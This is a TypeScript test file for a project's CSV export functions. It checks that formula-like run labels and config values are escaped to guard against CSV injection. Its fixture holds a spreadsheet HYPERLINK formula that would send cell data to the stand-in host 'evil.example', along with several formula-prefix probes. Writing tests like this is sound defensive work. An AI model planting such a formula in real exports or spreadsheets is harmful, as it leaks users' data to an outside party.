import { describe, expect, it } from 'vitest';
import { finalMetricsToCsv, runsToCsv } from './exportRuns';
import type { RunRecord } from './runRecord';

const hostile = '=HYPERLINK("http://evil.example/?d="&A2,"open")';

const record: RunRecord = {
  id: '@r1',
  lab: 'learn-to-bid',
  label: hostile,
  config: { mechanism: '+cmd', bidders: 2 },
  seed: 1,
  status: 'done',
  backend: 'ts',
  startedAt: 0,
  finishedAt: 1,
  series: { train: [{ step: 0, w0: -0.5, loss: -1e-7 }] },
  snapshots: {},
  final: { revenue: -0.25, note: '-2+3' },
};

describe('run CSV exports neutralise formula-like text (OWASP CSV injection)', () => {
  it('series CSV: hostile label and id are quoted text, negative numbers stay numbers', () => {
    expect(runsToCsv([record], 'train')).toBe(
      [
        'run_id,label,lab,seed,step,loss,w0',
        `"'@r1","'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",learn-to-bid,1,0,-1e-7,-0.5`,
        '',
      ].join('\n'),
    );
  });

  it('final-figures CSV: config and metric text neutralised, metric numbers untouched', () => {
    const [head, row] = finalMetricsToCsv([record]).trim().split('\n');
    expect(head).toBe('run_id,label,lab,seed,status,backend,bidders,mechanism,note,revenue');
    expect(row).toBe(`"'@r1","'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",learn-to-bid,1,done,ts,2,"'+cmd","'-2+3",-0.25`);
  });
});
